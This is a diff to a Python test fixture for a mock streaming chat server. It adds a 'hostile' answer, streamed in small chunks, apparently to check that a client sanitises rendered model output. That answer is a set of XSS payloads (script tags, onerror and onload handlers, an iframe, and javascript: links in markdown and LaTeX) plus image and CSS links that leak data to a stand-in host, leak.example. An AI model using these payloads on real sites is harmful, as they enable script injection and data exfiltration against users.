@@ -21,6 +21,33 @@ WEATHER = {
     "function": {"name": "weather", "arguments": '{"city": "Paris"}'},
 }
 
+#: An answer with raw HTML, scripts and remote resources.
+HOSTILE = """\
+**bold** <script>window.attacked = 'script'</script>
+<img src=x onerror="window.attacked = 'onerror'"> <svg onload="window.attacked = 'svg'"></svg>
+
+<iframe srcdoc="<script>parent.attacked = 'iframe'</script>"></iframe>
+
+<script>window.attacked = 'block'</script>
+
+![seen](https://leak.example/image.png?secret) <img src="https://leak.example/raw.png">
+![again][image] [link](javascript:window.attacked='link') [data](data:text/html,x) [out](/logout)
+
+<style>@import url(https://leak.example/style.css);</style>
+
+| a | b |
+|---|---|
+| cell | <img src=x onerror="window.attacked = 'table'"> |
+
+```html
+<img src=x> &amp;
+```
+
+$x_1 < \\href{javascript:window.attacked='math'}{y}$ the end
+
+[image]: https://leak.example/reference.png
+"""
+
 
 class Upstream:
     """A running server. The model in a request selects the reply.
@@ -96,6 +123,14 @@ async def _echo(handler: _Chat, body: dict[str, Any]) -> None:
         return
     await handler.event({"role": "assistant", "reasoning_content": "Hm."})
     await handler.event({"content": "One"}, "stop")
+    await handler.send("data: [DONE]\n\n")
+
+
+async def _hostile(handler: _Chat, body: dict[str, Any]) -> None:
+    for start in range(0, len(HOSTILE), 7):
+        await handler.event({"content": HOSTILE[start : start + 7]})
+        await asyncio.sleep(0.005)
+    await handler.event({}, "stop")
     await handler.send("data: [DONE]\n\n")
 
 
@@ -179,6 +214,7 @@ async def _redirects(handler: _Chat, body: dict[str, Any]) -> None:
 
 _ANSWERS = {
     "echo": _echo,
+    "hostile": _hostile,
     "waits": _waits,
     "endless": _endless,
     "breaks": _breaks,
